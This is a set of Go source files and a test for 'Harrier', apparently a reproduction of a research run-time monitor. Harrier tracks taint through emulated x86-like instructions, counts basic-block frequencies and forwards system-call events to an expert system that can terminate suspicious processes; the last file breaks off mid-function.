// looks up the image's BINARY tag only when an immediate actually
// appears (the lookup itself is a one-entry cache in binTag, since
// instruction streams run within one image for long stretches).
//
// Started installs it with Hooks.OnInstrData set, so compares, jumps
// and other untracked instructions never pay the callback.
func (h *Harrier) trackDataFlow(c *isa.CPU, s *isa.Span, idx int) {
	h.stats.Instructions++
	if h.bus != nil && h.stats.Instructions&(taintSampleQuantum-1) == 0 {
		h.publishTaintSample(c)
	}
	in := &s.Instrs[idx]
	if c.Shadow == nil {
		return
	}

	switch in.Op {
	case isa.MOV:
		h.flowMov(c, in, s.Image)

	case isa.MOVB:
		h.flowMovb(c, in, s.Image)

	case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
		isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR:
		h.flowALU(c, in, s.Image)

	case isa.LEA:
		h.flowLEA(c, in, s.Image)

	case isa.NOT, isa.NEG, isa.INC, isa.DEC:
		h.flowUnary(c, in, s.Image)

	case isa.PUSH, isa.POP, isa.CALL:
		h.flowStack(c, in, s.Image)

	case isa.CPUID:
		c.RegTags[isa.EAX] = h.hwTag
		c.RegTags[isa.EBX] = h.hwTag
		c.RegTags[isa.ECX] = h.hwTag
		c.RegTags[isa.EDX] = h.hwTag
		if h.prov != nil {
			h.provHardware(c, "cpuid")
		}

	case isa.RDTSC:
		c.RegTags[isa.EAX] = h.hwTag
		c.RegTags[isa.EDX] = h.hwTag
		if h.prov != nil {
			h.provHardware(c, "rdtsc")
		}

	case isa.CMP, isa.TEST, isa.JMP, isa.JZ, isa.JNZ, isa.JL, isa.JLE,
		isa.JG, isa.JGE, isa.RET, isa.INT, isa.HLT, isa.NOP, isa.NATIVE:
		// No tracked data flow: flags and control are implicit flows.
	}
}

// flowMov handles MOV: the destination tag is the source tag. The
// common reg<->mem cases never touch the BINARY tag.
func (h *Harrier) flowMov(c *isa.CPU, in *isa.Instr, image string) {
	var t taint.Tag
	switch in.B.Kind {
	case isa.RegOperand:
		t = c.RegTags[in.B.Reg]
	case isa.ImmOperand:
		t = h.binTag(image)
	case isa.MemOperand:
		t = c.Shadow.GetWord(c.EffectiveAddr(&in.B))
	}
	switch in.A.Kind {
	case isa.RegOperand:
		c.RegTags[in.A.Reg] = t
	case isa.MemOperand:
		c.Shadow.SetWord(c.EffectiveAddr(&in.A), t)
	}
}

// flowMovb handles MOVB with byte granularity. Register byte writes
// replace the whole register's tag — a documented precision trade-off
// (registers carry one tag, not four).
func (h *Harrier) flowMovb(c *isa.CPU, in *isa.Instr, image string) {
	var t taint.Tag
	switch in.B.Kind {
	case isa.RegOperand:
		t = c.RegTags[in.B.Reg]
	case isa.ImmOperand:
		t = h.binTag(image)
	case isa.MemOperand:
		t = c.Shadow.Get(c.EffectiveAddr(&in.B))
	}
	switch in.A.Kind {
	case isa.RegOperand:
		c.RegTags[in.A.Reg] = t
	case isa.MemOperand:
		c.Shadow.Set(c.EffectiveAddr(&in.A), t)
	}
}

// flowALU handles two-operand arithmetic: the destination becomes the
// union of both operand tags. A memory destination's effective address
// is resolved once and reused for the read and the write.
func (h *Harrier) flowALU(c *isa.CPU, in *isa.Instr, image string) {
	// xor r,r and sub r,r produce a constant regardless of the
	// operand value: the canonical zeroing idioms drop taint.
	if (in.Op == isa.XOR || in.Op == isa.SUB) &&
		in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand &&
		in.A.Reg == in.B.Reg {
		c.RegTags[in.A.Reg] = taint.Empty
		return
	}
	var (
		ta, tb taint.Tag
		eaA    uint32
	)
	switch in.A.Kind {
	case isa.RegOperand:
		ta = c.RegTags[in.A.Reg]
	case isa.ImmOperand:
		ta = h.binTag(image)
	case isa.MemOperand:
		eaA = c.EffectiveAddr(&in.A)
		ta = c.Shadow.GetWord(eaA)
	}
	switch in.B.Kind {
	case isa.RegOperand:
		tb = c.RegTags[in.B.Reg]
	case isa.ImmOperand:
		tb = h.binTag(image)
	case isa.MemOperand:
		tb = c.Shadow.GetWord(c.EffectiveAddr(&in.B))
	}
	t := h.Store.Union(ta, tb)
	switch in.A.Kind {
	case isa.RegOperand:
		c.RegTags[in.A.Reg] = t
	case isa.MemOperand:
		c.Shadow.SetWord(eaA, t)
	}
}

// flowLEA handles LEA: the loaded value is an address computed from
// the base register and a displacement encoded in the binary.
func (h *Harrier) flowLEA(c *isa.CPU, in *isa.Instr, image string) {
	t := h.binTag(image)
	if in.B.Kind == isa.MemOperand && in.B.HasBase {
		t = h.Store.Union(t, c.RegTags[in.B.Reg])
	}
	if in.A.Kind == isa.RegOperand {
		c.RegTags[in.A.Reg] = t
	}
}

// flowUnary handles single-operand ops. NOT/NEG preserve the operand
// tag; INC/DEC union in BINARY because the implied constant 1 is
// encoded in the binary (paper's rule for immediates).
func (h *Harrier) flowUnary(c *isa.CPU, in *isa.Instr, image string) {
	var (
		t   taint.Tag
		eaA uint32
	)
	switch in.A.Kind {
	case isa.RegOperand:
		t = c.RegTags[in.A.Reg]
	case isa.ImmOperand:
		t = h.binTag(image)
	case isa.MemOperand:
		eaA = c.EffectiveAddr(&in.A)
		t = c.Shadow.GetWord(eaA)
	}
	if in.Op == isa.INC || in.Op == isa.DEC {
		t = h.Store.Union(t, h.binTag(image))
	}
	switch in.A.Kind {
	case isa.RegOperand:
		c.RegTags[in.A.Reg] = t
	case isa.MemOperand:
		c.Shadow.SetWord(eaA, t)
	}
}

// flowStack handles PUSH/POP/CALL, which move words through the stack.
func (h *Harrier) flowStack(c *isa.CPU, in *isa.Instr, image string) {
	sh := c.Shadow
	switch in.Op {
	case isa.PUSH:
		var t taint.Tag
		switch in.A.Kind {
		case isa.RegOperand:
			t = c.RegTags[in.A.Reg]
		case isa.ImmOperand:
			t = h.binTag(image)
		case isa.MemOperand:
			t = sh.GetWord(c.EffectiveAddr(&in.A))
		}
		sh.SetWord(c.Regs[isa.ESP]-4, t)

	case isa.POP:
		t := sh.GetWord(c.Regs[isa.ESP])
		if in.A.Kind == isa.RegOperand {
			c.RegTags[in.A.Reg] = t
		} else if in.A.Kind == isa.MemOperand {
			sh.SetWord(c.EffectiveAddr(&in.A), t)
		}

	case isa.CALL:
		// The pushed return address is machine bookkeeping.
		sh.SetWord(c.Regs[isa.ESP]-4, taint.Empty)
	}
}

// nativePre captures the input-name tag of translation routines so
// nativePost can short-circuit the flow (paper §7.2: gethostbyname
// resolves outside the program; Harrier copies the resource ID tag
// directly to the resulting network address).
func (h *Harrier) nativePre(c *isa.CPU, name string) {
	switch name {
	case "gethostbyname", "gethostbyaddr":
		p := procOf(c)
		if p == nil || c.Shadow == nil {
			return
		}
		ptr := c.Regs[isa.EBX]
		n := c.Mem.CStringLen(ptr)
		h.natSave[p.PID] = c.Shadow.GetRange(ptr, n)
	}
}

// nativePost applies the saved tag to the routine's result.
func (h *Harrier) nativePost(c *isa.CPU, name string) {
	switch name {
	case "gethostbyname", "gethostbyaddr":
		p := procOf(c)
		if p == nil || c.Shadow == nil {
			return
		}
		t, ok := h.natSave[p.PID]
		if !ok {
			return
		}
		delete(h.natSave, p.PID)
		out := c.Regs[isa.EAX]
		if out == 0 {
			return
		}
		n := c.Mem.CStringLen(out)
		c.Shadow.SetRange(out, n+1, t)
		if h.prov != nil && t != taint.Empty {
			h.provXfer(p, t, name)
		}
	}
}
