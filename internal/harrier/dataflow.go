package harrier

import (
	"repro/internal/isa"
	"repro/internal/taint"
)

// trackDataFlow is the Track_DataFlow analysis inserted before every
// data-moving instruction (paper Figure 5). It implements §7.3.1:
// destination tags become the union of the source-operand tags,
// immediates carry BINARY:<image of the instruction>, and CPUID/RDTSC
// outputs carry HARDWARE. Control-transfer instructions and flags are
// not tracked — implicit flows are out of scope, as in the prototype
// (§7.3 footnote 7).
func (h *Harrier) trackDataFlow(c *isa.CPU, s *isa.Span, idx int) {
	h.stats.Instructions++
	in := &s.Instrs[idx]
	sh := c.Shadow
	if sh == nil {
		return
	}
	bin := h.binTag(s.Image)

	switch in.Op {
	case isa.MOV:
		h.writeTag(c, in.A, h.readTag(c, in.B, bin))

	case isa.MOVB:
		h.writeTag8(c, in.A, h.readTag8(c, in.B, bin))

	case isa.LEA:
		// The loaded value is an address computed from the base
		// register and a displacement encoded in the binary.
		t := bin
		if in.B.Kind == isa.MemOperand && in.B.HasBase {
			t = h.Store.Union(t, c.RegTags[in.B.Reg])
		}
		if in.A.Kind == isa.RegOperand {
			c.RegTags[in.A.Reg] = t
		}

	case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
		isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR:
		// xor r,r and sub r,r produce a constant regardless of the
		// operand value: the canonical zeroing idioms drop taint.
		if (in.Op == isa.XOR || in.Op == isa.SUB) &&
			in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand &&
			in.A.Reg == in.B.Reg {
			c.RegTags[in.A.Reg] = taint.Empty
			return
		}
		t := h.Store.Union(h.readTag(c, in.A, bin), h.readTag(c, in.B, bin))
		h.writeTag(c, in.A, t)

	case isa.NOT, isa.NEG:
		h.writeTag(c, in.A, h.readTag(c, in.A, bin))

	case isa.INC, isa.DEC:
		// The implied constant 1 is encoded in the binary (paper's
		// rule for immediates), so the result unions in BINARY.
		h.writeTag(c, in.A, h.Store.Union(h.readTag(c, in.A, bin), bin))

	case isa.PUSH:
		sh.SetWord(c.Regs[isa.ESP]-4, h.readTag(c, in.A, bin))

	case isa.POP:
		t := sh.GetWord(c.Regs[isa.ESP])
		if in.A.Kind == isa.RegOperand {
			c.RegTags[in.A.Reg] = t
		} else if in.A.Kind == isa.MemOperand {
			sh.SetWord(c.EffectiveAddr(in.A), t)
		}

	case isa.CALL:
		// The pushed return address is machine bookkeeping.
		sh.SetWord(c.Regs[isa.ESP]-4, taint.Empty)

	case isa.CPUID:
		c.RegTags[isa.EAX] = h.hwTag
		c.RegTags[isa.EBX] = h.hwTag
		c.RegTags[isa.ECX] = h.hwTag
		c.RegTags[isa.EDX] = h.hwTag

	case isa.RDTSC:
		c.RegTags[isa.EAX] = h.hwTag
		c.RegTags[isa.EDX] = h.hwTag

	case isa.CMP, isa.TEST, isa.JMP, isa.JZ, isa.JNZ, isa.JL, isa.JLE,
		isa.JG, isa.JGE, isa.RET, isa.INT, isa.HLT, isa.NOP, isa.NATIVE:
		// No tracked data flow: flags and control are implicit flows.
	}
}

// readTag returns the taint of a 32-bit operand read.
func (h *Harrier) readTag(c *isa.CPU, op isa.Operand, bin taint.Tag) taint.Tag {
	switch op.Kind {
	case isa.RegOperand:
		return c.RegTags[op.Reg]
	case isa.ImmOperand:
		return bin
	case isa.MemOperand:
		return c.Shadow.GetWord(c.EffectiveAddr(op))
	}
	return taint.Empty
}

// readTag8 returns the taint of a byte operand read.
func (h *Harrier) readTag8(c *isa.CPU, op isa.Operand, bin taint.Tag) taint.Tag {
	switch op.Kind {
	case isa.RegOperand:
		return c.RegTags[op.Reg]
	case isa.ImmOperand:
		return bin
	case isa.MemOperand:
		return c.Shadow.Get(c.EffectiveAddr(op))
	}
	return taint.Empty
}

// writeTag assigns the taint of a 32-bit operand write.
func (h *Harrier) writeTag(c *isa.CPU, op isa.Operand, t taint.Tag) {
	switch op.Kind {
	case isa.RegOperand:
		c.RegTags[op.Reg] = t
	case isa.MemOperand:
		c.Shadow.SetWord(c.EffectiveAddr(op), t)
	}
}

// writeTag8 assigns the taint of a byte write. Register byte writes
// replace the whole register's tag — a documented precision trade-off
// (registers carry one tag, not four).
func (h *Harrier) writeTag8(c *isa.CPU, op isa.Operand, t taint.Tag) {
	switch op.Kind {
	case isa.RegOperand:
		c.RegTags[op.Reg] = t
	case isa.MemOperand:
		c.Shadow.Set(c.EffectiveAddr(op), t)
	}
}

// nativePre captures the input-name tag of translation routines so
// nativePost can short-circuit the flow (paper §7.2: gethostbyname
// resolves outside the program; Harrier copies the resource ID tag
// directly to the resulting network address).
func (h *Harrier) nativePre(c *isa.CPU, name string) {
	switch name {
	case "gethostbyname", "gethostbyaddr":
		p := procOf(c)
		if p == nil || c.Shadow == nil {
			return
		}
		ptr := c.Regs[isa.EBX]
		n := c.Mem.CStringLen(ptr)
		h.natSave[p.PID] = c.Shadow.GetRange(ptr, n)
	}
}

// nativePost applies the saved tag to the routine's result.
func (h *Harrier) nativePost(c *isa.CPU, name string) {
	switch name {
	case "gethostbyname", "gethostbyaddr":
		p := procOf(c)
		if p == nil || c.Shadow == nil {
			return
		}
		t, ok := h.natSave[p.PID]
		if !ok {
			return
		}
		delete(h.natSave, p.PID)
		out := c.Regs[isa.EAX]
		if out == 0 {
			return
		}
		n := c.Mem.CStringLen(out)
		c.Shadow.SetRange(out, n+1, t)
	}
}
