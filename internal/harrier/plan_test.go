package harrier

import (
	"strings"
	"testing"

	"repro/internal/isa"
)

// TestFigure5InstrumentationPlan reproduces the instrumentation
// example of paper Figure 5: given the figure's code shape, the plan
// inserts Track_DataFlow before data-moving instructions,
// Collect_BB_Frequency at block entries, and Monitor_SystemCalls
// before the int 0x80.
func TestFigure5InstrumentationPlan(t *testing.T) {
	// The figure's snippet (adapted to this ISA):
	//   mov eax, edi / jne 58 / mov ebx, 0 / xor edx, edx /
	//   mov ecx, esi / mov eax, 5 / int 0x80
	instrs := []isa.Instr{
		{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.R(isa.EDI)},
		{Op: isa.JNZ, A: isa.Imm(0x1000)},
		{Op: isa.MOV, A: isa.R(isa.EBX), B: isa.Imm(0)},
		{Op: isa.XOR, A: isa.R(isa.EDX), B: isa.R(isa.EDX)},
		{Op: isa.MOV, A: isa.R(isa.ECX), B: isa.R(isa.ESI)},
		{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Imm(5)},
		{Op: isa.INT, A: isa.Imm(0x80)},
	}
	span := isa.NewSpan(0x1000, "a.out", instrs, nil)
	plan := InstrumentationPlan(span)

	lines := strings.Split(strings.TrimSpace(plan), "\n")
	want := []string{
		"Call Collect_BB_Frequency", // block 1 entry
		"Call Track_DataFlow",
		"mov eax, edi",
		"jne/jnz",
		"Call Collect_BB_Frequency", // block 2 entry (after the jump)
		"Call Track_DataFlow",
		"mov ebx, 0x0",
		"Call Track_DataFlow",
		"xor edx, edx",
		"Call Track_DataFlow",
		"mov ecx, esi",
		"Call Track_DataFlow",
		"mov eax, 0x5",
		"Call Monitor_SystemCalls",
		"int 0x80",
	}
	if len(lines) != len(want) {
		t.Fatalf("plan has %d lines, want %d:\n%s", len(lines), len(want), plan)
	}
	for i, w := range want {
		if w == "jne/jnz" {
			if !strings.HasPrefix(lines[i], "jnz") {
				t.Errorf("line %d = %q, want the conditional jump", i, lines[i])
			}
			continue
		}
		if lines[i] != w {
			t.Errorf("line %d = %q, want %q", i, lines[i], w)
		}
	}
}

func TestPlanControlInstructionsNotDataflow(t *testing.T) {
	span := isa.NewSpan(0x1000, "x", []isa.Instr{
		{Op: isa.CMP, A: isa.R(isa.EAX), B: isa.Imm(0)},
		{Op: isa.RET},
	}, nil)
	plan := InstrumentationPlan(span)
	if strings.Count(plan, "Track_DataFlow") != 0 {
		t.Errorf("cmp/ret received dataflow calls:\n%s", plan)
	}
}

func TestPlanCountsMatchHooks(t *testing.T) {
	// The static plan's Track_DataFlow count must equal the dynamic
	// instruction-hook invocations for straight-line code.
	instrs := []isa.Instr{
		{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Imm(1)},
		{Op: isa.ADD, A: isa.R(isa.EAX), B: isa.Imm(2)},
		{Op: isa.PUSH, A: isa.R(isa.EAX)},
		{Op: isa.POP, A: isa.R(isa.EBX)},
		{Op: isa.HLT},
	}
	span := isa.NewSpan(0x1000, "x", instrs, nil)
	plan := InstrumentationPlan(span)
	if got := strings.Count(plan, "Track_DataFlow"); got != 4 {
		t.Errorf("plan dataflow calls = %d, want 4", got)
	}
	if got := strings.Count(plan, "Collect_BB_Frequency"); got != 1 {
		t.Errorf("plan BB calls = %d, want 1", got)
	}
}
