// Package harrier implements Harrier, the HTH run-time monitor (paper
// §7). Harrier attaches to a process tree on the virtual OS and
// instruments it at every granularity of paper Table 3:
//
//   - instruction: Track_DataFlow — taint propagation through every
//     data-moving instruction, with immediates tagged BINARY:<image>
//     and CPUID/RDTSC outputs tagged HARDWARE;
//   - basic block: Collect_BB_Frequency — per-block execution counts
//     with last-application-BB attribution across shared objects
//     (paper Figure 3);
//   - routine: the gethostbyname/gethostbyaddr short-circuit (§7.2);
//   - OS: Monitor_SystemCalls — synchronous pre-execution events sent
//     to Secpert, whose verdict can kill the process;
//   - image: loader events tag mapped binaries (done by the loader
//     when a shadow is attached).
package harrier

import (
	"fmt"

	"repro/internal/events"
	"repro/internal/isa"
	"repro/internal/secpert"
	"repro/internal/taint"
	"repro/internal/vos"
)

// Config selects which Harrier modules run; the defaults enable
// everything, matching the paper's prototype. The ablation benches
// toggle these.
type Config struct {
	// Dataflow enables instruction-level taint tracking. Without it
	// information-flow analysis degrades to nothing (the mw macro
	// benchmark runs this way, §8.4.2).
	Dataflow bool
	// BBFrequency enables basic-block counting and last-app-BB
	// attribution.
	BBFrequency bool
	// CloneRateWindow is the width (virtual ticks) of the sliding
	// window used for the clone-rate measurement (§4.2).
	CloneRateWindow uint64
	// KeepEventLog records every event sent to Secpert with its
	// verdict (the EventAnalyzer transcript, paper Figure 6).
	KeepEventLog bool
}

// DefaultConfig enables all modules.
func DefaultConfig() Config {
	return Config{
		Dataflow:        true,
		BBFrequency:     true,
		CloneRateWindow: 20_000,
		KeepEventLog:    true,
	}
}

// bbKey identifies a basic block: owning image and leader address.
type bbKey struct {
	image string
	addr  uint32
}

// Stats counts Harrier's instrumentation work, for the §9 performance
// evaluation.
type Stats struct {
	Instructions uint64 // instructions instrumented for data flow
	Blocks       uint64 // basic-block entries counted
	AccessEvents uint64 // resource-access events sent to Secpert
	IOEvents     uint64 // I/O events sent to Secpert
}

// Harrier is one monitor instance, observing one process tree and
// feeding one Secpert.
type Harrier struct {
	Store *taint.Store
	cfg   Config
	sec   *secpert.Secpert

	binTags map[string]taint.Tag
	hwTag   taint.Tag

	bbFreq  map[bbKey]int64
	lastApp map[int]bbKey // pid -> last application BB

	cloneCount int64
	cloneTimes []uint64
	memBytes   int64 // total heap growth across the tree (SYS_brk)
	log        []LogEntry

	// natSave holds the input-name tag captured at native-routine
	// entry for the short-circuit (§7.2).
	natSave map[int]taint.Tag

	stats Stats
}

var _ vos.Monitor = (*Harrier)(nil)

// New builds a Harrier feeding sec. The returned monitor carries its
// own taint store; pass it as both Monitor and Store in vos.ProcSpec.
func New(cfg Config, sec *secpert.Secpert) *Harrier {
	st := taint.NewStore()
	return &Harrier{
		Store:   st,
		cfg:     cfg,
		sec:     sec,
		binTags: make(map[string]taint.Tag),
		hwTag:   st.Of(taint.Source{Type: taint.Hardware, Name: "cpuid"}),
		bbFreq:  make(map[bbKey]int64),
		lastApp: make(map[int]bbKey),
		natSave: make(map[int]taint.Tag),
	}
}

// Secpert returns the attached expert system.
func (h *Harrier) Secpert() *secpert.Secpert { return h.sec }

// Stats returns instrumentation counters.
func (h *Harrier) Stats() Stats { return h.stats }

// BBFrequency returns the execution count of the block at addr in the
// named image.
func (h *Harrier) BBFrequency(image string, addr uint32) int64 {
	return h.bbFreq[bbKey{image, addr}]
}

func (h *Harrier) binTag(image string) taint.Tag {
	t, ok := h.binTags[image]
	if !ok {
		t = h.Store.Of(taint.Source{Type: taint.Binary, Name: image})
		h.binTags[image] = t
	}
	return t
}

// Started installs the CPU hooks on a monitored root process.
func (h *Harrier) Started(p *vos.Process) {
	hooks := isa.Hooks{}
	if h.cfg.Dataflow {
		hooks.OnInstr = h.trackDataFlow
		hooks.OnNativePre = h.nativePre
		hooks.OnNativePost = h.nativePost
	}
	if h.cfg.BBFrequency {
		hooks.OnBB = h.collectBBFrequency
	}
	p.CPU.Hooks = hooks
}

// Forked: the child inherits the parent's hooks via CPU.Clone; only
// bookkeeping is needed.
func (h *Harrier) Forked(parent, child *vos.Process) {
	if bb, ok := h.lastApp[parent.PID]; ok {
		h.lastApp[child.PID] = bb
	}
}

// Execed resets per-program attribution state: the process is now a
// different program.
func (h *Harrier) Execed(p *vos.Process) {
	delete(h.lastApp, p.PID)
}

// Exited drops per-process state.
func (h *Harrier) Exited(p *vos.Process) {
	delete(h.lastApp, p.PID)
	delete(h.natSave, p.PID)
}

// collectBBFrequency is the Collect_BB_Frequency analysis of paper
// Figure 5: count the block and remember the last *application* block
// so that events raised inside shared objects are attributed to the
// application code that initiated the call path (Figure 3).
func (h *Harrier) collectBBFrequency(c *isa.CPU, s *isa.Span, leader int) {
	h.stats.Blocks++
	p := c.Ctx.(*vos.Process)
	key := bbKey{s.Image, s.Addr(leader)}
	h.bbFreq[key]++
	if s.Image == p.Path {
		h.lastApp[p.PID] = key
	}
}

// context returns the (frequency, address) attribution for an event
// raised by process p: the last application basic block.
func (h *Harrier) context(p *vos.Process) (int64, string) {
	bb, ok := h.lastApp[p.PID]
	if !ok {
		return 0, ""
	}
	return h.bbFreq[bb], fmt.Sprintf("%x", bb.addr)
}

// sourcesAt reads the source set of a guest memory range.
func (h *Harrier) sourcesAt(p *vos.Process, addr, n uint32) []taint.Source {
	if p.CPU.Shadow == nil || n == 0 {
		return nil
	}
	return h.Store.Sources(p.CPU.Shadow.GetRange(addr, n))
}

func (h *Harrier) decision(d secpert.Decision) vos.Verdict {
	if d == secpert.Terminate {
		return vos.Kill
	}
	return vos.Continue
}

// sendAccess forwards an access event to Secpert, logging it with the
// verdict.
func (h *Harrier) sendAccess(ev *events.Access) vos.Verdict {
	d := h.sec.HandleAccess(ev)
	h.logAccess(ev, d)
	return h.decision(d)
}

// sendIO forwards an I/O event to Secpert, logging it with the
// verdict.
func (h *Harrier) sendIO(ev *events.IO) vos.Verdict {
	d := h.sec.HandleIO(ev)
	h.logIO(ev, d)
	return h.decision(d)
}
