// Package harrier implements Harrier, the HTH run-time monitor (paper
// §7). Harrier attaches to a process tree on the virtual OS and
// instruments it at every granularity of paper Table 3:
//
//   - instruction: Track_DataFlow — taint propagation through every
//     data-moving instruction, with immediates tagged BINARY:<image>
//     and CPUID/RDTSC outputs tagged HARDWARE;
//   - basic block: Collect_BB_Frequency — per-block execution counts
//     with last-application-BB attribution across shared objects
//     (paper Figure 3);
//   - routine: the gethostbyname/gethostbyaddr short-circuit (§7.2);
//   - OS: Monitor_SystemCalls — synchronous pre-execution events sent
//     to Secpert, whose verdict can kill the process;
//   - image: loader events tag mapped binaries (done by the loader
//     when a shadow is attached).
package harrier

import (
	"fmt"

	"repro/internal/events"
	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/secpert"
	"repro/internal/taint"
	"repro/internal/vos"
)

// Sampling quanta for the hot-path bus publishes: a basic-block
// counter publishes a bb.roll event each time it crosses a multiple of
// bbRollQuantum, and the dataflow loop publishes a taint.sample /
// taint.tlb pair every taintSampleQuantum instrumented instructions.
// Both checks sit behind the bus nil-check, so a disabled bus pays one
// branch per site.
const (
	bbRollQuantum      = 4096
	taintSampleShift   = 16
	taintSampleQuantum = 1 << taintSampleShift
)

// Config selects which Harrier modules run; the defaults enable
// everything, matching the paper's prototype. The ablation benches
// toggle these.
type Config struct {
	// Dataflow enables instruction-level taint tracking. Without it
	// information-flow analysis degrades to nothing (the mw macro
	// benchmark runs this way, §8.4.2).
	Dataflow bool
	// BBFrequency enables basic-block counting and last-app-BB
	// attribution.
	BBFrequency bool
	// CloneRateWindow is the width (virtual ticks) of the sliding
	// window used for the clone-rate measurement (§4.2).
	CloneRateWindow uint64
	// KeepEventLog records every event sent to Secpert with its
	// verdict (the EventAnalyzer transcript, paper Figure 6).
	KeepEventLog bool
	// TagWidthBudget caps how many distinct sources one taint set may
	// carry before it degrades to per-type wide sources (see
	// taint.Store.SetWidthBudget). 0 = unlimited. Degradation is an
	// over-approximation: type-keyed warnings are never lost.
	TagWidthBudget int
	// PromoteThreshold is the tiered taint engine's promotion point: a
	// basic block whose frequency counter reaches it is compiled into a
	// dataflow summary applied in one call per entry instead of one
	// OnInstr dispatch per instruction (see summary.go / tier.go).
	// 0 disables tiering — every block stays in the interpreter tier.
	// Tiering requires both Dataflow and BBFrequency; detections and
	// reported tag sets are bit-identical across tiers.
	PromoteThreshold int
	// TraceThreshold is the second promotion point: a summarized block
	// whose counter reaches it is compiled into a superblock trace —
	// hot blocks chained across predicted edges and executed (taint
	// transfer fused with concrete semantics) in a single hook call,
	// with a clean-taint gate that skips the transfer entirely while
	// the trace's taint effect is provably stationary (see trace.go).
	// 0 disables the trace tier; blocks stop at the summary tier.
	// Requires tiering (PromoteThreshold > 0) to be reachable at all.
	TraceThreshold int
	// CleanThreshold arms the fourth tier — taint-scoped partial
	// instrumentation (see cleantier.go): a compiled block whose
	// counter reaches it becomes a demotion candidate, running
	// UNINSTRUMENTED (no shadow lookups, no transfer, no hooks)
	// whenever its footprint pages and entry register tags are
	// provably clean, and re-instrumenting the moment taint reaches
	// its footprint (the shadow page-flip seam / vos taint-source
	// seam). Traces probe the clean tier at every entry once armed.
	// 0 disables the tier. Requires tiering (PromoteThreshold > 0).
	CleanThreshold int
}

// DefaultConfig enables all modules.
func DefaultConfig() Config {
	return Config{
		Dataflow:         true,
		BBFrequency:      true,
		CloneRateWindow:  20_000,
		KeepEventLog:     true,
		PromoteThreshold: 64,
		TraceThreshold:   256,
		CleanThreshold:   64,
	}
}

// bbKey identifies a basic block: owning image and leader address.
type bbKey struct {
	image string
	addr  uint32
}

// bbCacheSize is the width of the direct-mapped block-counter cache;
// a power of two so the leader index masks down without a division.
const bbCacheSize = 256

type bbCacheEnt struct {
	key bbKey
	ctr *int64
}

// Stats counts Harrier's instrumentation work, for the §9 performance
// evaluation. The Taint* fields snapshot the taint store's interning
// statistics at the time Stats() is called, so benchmark harnesses can
// track the fast-path caches across PRs.
type Stats struct {
	Instructions uint64 // instructions instrumented for data flow
	Blocks       uint64 // basic-block entries counted
	AccessEvents uint64 // resource-access events sent to Secpert
	IOEvents     uint64 // I/O events sent to Secpert

	// Tiered taint engine counters (see tier.go). TierHits is included
	// in Blocks: a summary application counts the block entry exactly
	// as the interpreter tier would.
	TierPromoted uint64 // blocks compiled into summaries
	TierPinned   uint64 // blocks found unmodelable, pinned to interpreter
	TierDemoted  uint64 // summaries dropped by execve invalidation
	TierHits     uint64 // block entries served by a summary

	// Trace tier counters (see trace.go). TraceHits is included in
	// Blocks: each chained block entry inside a trace counts exactly as
	// the interpreter tier would count it.
	TraceCompiled    uint64 // superblock traces compiled
	TraceHits        uint64 // block entries served inside a trace
	TraceSideExits   uint64 // trace runs ended by a mispredicted branch
	GateSkips        uint64 // trace runs served by the clean-taint gate
	TierTraceDemoted uint64 // traces dropped by execve invalidation

	// Clean tier counters (see cleantier.go). CleanHits is included in
	// Blocks — a clean entry counts the block exactly as every other
	// tier does — and is disjoint from TierHits/TraceHits: each block
	// entry is credited to exactly one tier.
	CleanDemoted   uint64 // clean verdicts proved and cached
	CleanHits      uint64 // block entries served uninstrumented
	Reinstrumented uint64 // clean verdicts flushed by taint reaching their footprint

	TaintSets       int    // distinct source sets interned
	TaintUnions     uint64 // union operations performed
	TaintUnionHits  uint64 // union cache hits (direct-mapped + map)
	TaintFastHits   uint64 // union hits served by the direct-mapped cache
	TaintWideUnions uint64 // sets degraded under the tag width budget
}

// Harrier is one monitor instance, observing one process tree and
// feeding one Secpert.
type Harrier struct {
	Store *taint.Store
	cfg   Config
	sec   *secpert.Secpert

	binTags map[string]taint.Tag
	hwTag   taint.Tag

	// One-entry binTag cache: trackDataFlow resolves the BINARY tag of
	// the executing image on every immediate operand, and execution
	// stays within one image for long stretches. Image strings come
	// from Span.Image, so the == compare is a pointer check in the
	// common case.
	binCacheImage string
	binCacheTag   taint.Tag

	bbFreq  map[bbKey]*int64
	lastApp map[int]bbKey // pid -> last application BB

	// Hot-path caches for collectBBFrequency: a direct-mapped cache of
	// block counters indexed by leader address (bbFreq never deletes,
	// so cached *int64 pointers stay valid for the run), and a
	// write-behind entry for the lastApp map. appCachePID/appCacheKey
	// hold the freshest attribution for the most recently scheduled
	// process; the map is only written when the running PID changes
	// (flushApp), so straight-line execution never touches it.
	// appCachePID is -1 when the cache is empty. Readers must check
	// the cache before the map.
	bbCache     [bbCacheSize]bbCacheEnt
	appCachePID int
	appCacheKey bbKey

	// tierThreshold caches Config.PromoteThreshold as the counter's
	// type, non-zero only when the config combination supports tiering
	// (Dataflow + BBFrequency). One int64 compare per block entry.
	// traceThreshold is the same for Config.TraceThreshold, non-zero
	// only when the summary tier underneath it is armed.
	tierThreshold  int64
	traceThreshold int64
	// cleanThreshold caches Config.CleanThreshold the same way.
	// cleanEpoch is the monitor-side invalidation clock of the clean
	// tier: advanced by the vos taint-source seam and the shadow
	// page-flip listener; cached clean verdicts snapshot it and
	// re-validate their pages when it moves (see cleantier.go).
	cleanThreshold int64
	cleanEpoch     uint64

	cloneCount int64
	cloneTimes []uint64
	memBytes   int64 // total heap growth across the tree (SYS_brk)
	log        []LogEntry

	// natSave holds the input-name tag captured at native-routine
	// entry for the short-circuit (§7.2).
	natSave map[int]taint.Tag

	stats Stats
	bus   *obs.Bus
	tt    *obs.TierTimer

	// Provenance recording (see provenance.go): the attached recorder
	// and the tag → provenance-ID resolution cache. Both nil/empty
	// unless SetProvenance armed them; every hot-path site guards with
	// one prov nil-check.
	prov    *obs.Provenance
	provIDs map[taint.Tag][]obs.ProvID
}

var _ vos.Monitor = (*Harrier)(nil)

// New builds a Harrier feeding sec. The returned monitor carries its
// own taint store; pass it as both Monitor and Store in vos.ProcSpec.
func New(cfg Config, sec *secpert.Secpert) *Harrier {
	st := taint.NewStore()
